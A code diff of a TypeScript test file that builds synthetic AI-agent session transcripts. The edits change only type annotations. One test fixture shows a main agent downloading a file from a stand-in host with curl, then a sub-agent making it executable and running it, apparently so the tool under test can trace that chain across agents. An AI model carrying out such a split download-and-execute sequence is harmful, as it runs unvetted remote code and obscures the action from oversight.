@@ -17,7 +17,7 @@ function session() {
     row,
     prompt: (content: string) => row({ type: 'user', message: { role: 'user', content } }),
     call: (id: string, name: string, input: object, extra: object = {}) => row({ type: 'assistant', message: { id: `m${id}`, role: 'assistant', content: [{ type: 'tool_use', id, name, input }] }, ...extra }),
-    answer: (id: string, content: unknown, { toolUseResult, failed = false, ...extra }: { toolUseResult?: unknown; failed?: boolean } = {}) => row({ type: 'user', message: { role: 'user', content: [{ type: 'tool_result', tool_use_id: id, content, is_error: failed }] }, ...(toolUseResult === undefined ? {} : { toolUseResult }), ...extra }),
+    answer: (id: string, content: unknown, { toolUseResult, failed = false, ...extra }: { toolUseResult?: unknown; failed?: boolean; [key: string]: unknown } = {}) => row({ type: 'user', message: { role: 'user', content: [{ type: 'tool_result', tool_use_id: id, content, is_error: failed }] }, ...(toolUseResult === undefined ? {} : { toolUseResult }), ...extra }),
   };
 }
 
@@ -101,7 +101,7 @@ describe('how a call ended', () => {
 describe('a chain', () => {
   it('goes from a session to its sub-agent, and points at the row of each', async () => {
     const { prompt, call, answer } = session();
-    const sub = { isSidechain: true, agentId: 'a1' };
+    const sub: { readonly [key: string]: unknown } = { isSidechain: true, agentId: 'a1' };
     const main = [prompt('go'), call('t1', 'Bash', { command: 'curl -o tools/f https://get.example.io/x' }), answer('t1', ''), call('t2', 'Agent', { description: 'd', prompt: 'run it' })];
     const agent = [call('t3', 'Bash', { command: 'chmod +x tools/f && ./tools/f' }, sub), answer('t3', '', sub)];
     const opened = await openDrawn({ [place]: [...main, answer('t2', 'done')], [agentPlace]: agent });
